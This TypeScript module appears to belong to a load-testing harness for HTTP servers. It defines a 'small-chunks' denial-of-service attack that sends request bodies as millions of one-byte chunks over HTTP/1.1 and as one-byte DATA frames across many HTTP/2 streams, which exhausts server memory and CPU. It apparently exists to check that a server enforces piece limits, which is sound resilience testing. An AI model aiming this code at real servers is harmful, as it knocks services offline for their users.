// SPDX-License-Identifier: Apache-2.0

import type { Attack, Tools, Way } from "../attack.ts";
import type { Target } from "../target.ts";
import { FLAG, FRAME, frame, headerBlock } from "../wire/h2-frames.ts";
import { LETTERS_PATH } from "../wire/json-senders.ts";
import type { Line } from "../wire/line.ts";
import { openH2Line, openLine, over } from "../wire/line.ts";
import { sideBySide } from "../wire/repeat.ts";

const CONNECTIONS = 3;
/** One-byte pieces of one body over HTTP/1.1. */
const CHUNKS = 4_000_000;
/** Streams on a connection of HTTP/2, each with as many one-byte frames as its window allows without an update. */
const STREAMS = 90;
const FRAMES = 65_000;
/** Pieces per write. */
const AT_ONCE = 10_000;

const START = '{"name":"';

async function sendMany(line: Line, piece: Buffer, times: number): Promise<void> {
  const many = Buffer.concat(Array.from({ length: AT_ONCE }, () => piece));
  for (let sent = 0; sent < times; sent += AT_ONCE) if (!(await line.send(many))) return;
}

const http1: Way = async (target, tools) => {
  await sideBySide(CONNECTIONS, async () => {
    const line = await openLine(target.port, tools);
    if (line === undefined) return;
    const head = `POST ${LETTERS_PATH} HTTP/1.1\r\nhost: attack\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`;
    await line.send(Buffer.from(`${head}9\r\n${START}\r\n`));
    await sendMany(line, Buffer.from("1\r\nx\r\n"), CHUNKS);
    await line.closed();
  });
  await over(tools.signal);
};

/** On each stream a beginning, and then frames of one byte. */
const onStreams =
  (beginning: (streamId: number) => Buffer): Way =>
  async (target: Target, tools: Tools) => {
    const line = await openH2Line(target.port, tools);
    if (line === undefined) return;
    const ids = Array.from({ length: STREAMS }, (_, index) => 1 + 2 * index);
    for (const id of ids) await line.send(beginning(id));
    for (const id of ids) await sendMany(line, frame(FRAME.data, FLAG.none, id, Buffer.from("x")), FRAMES);
    await line.closed();
    await over(tools.signal);
  };

const postFields = (path: string): Readonly<Record<string, string>> => ({
  ":method": "POST",
  ":scheme": "http",
  ":path": path,
  ":authority": "attack",
  "content-type": "application/json",
});

export const attack: Attack = {
  name: "small-chunks",
  about: "bodies in pieces of one byte, each of which is an object in memory and takes microseconds",
  bounds: ["max-small-pieces"],
  ways: {
    http1,
    h2: onStreams((id) =>
      Buffer.concat([
        frame(FRAME.headers, FLAG.endHeaders, id, headerBlock(postFields(LETTERS_PATH))),
        frame(FRAME.data, FLAG.none, id, Buffer.from(START)),
      ]),
    ),
  },
};
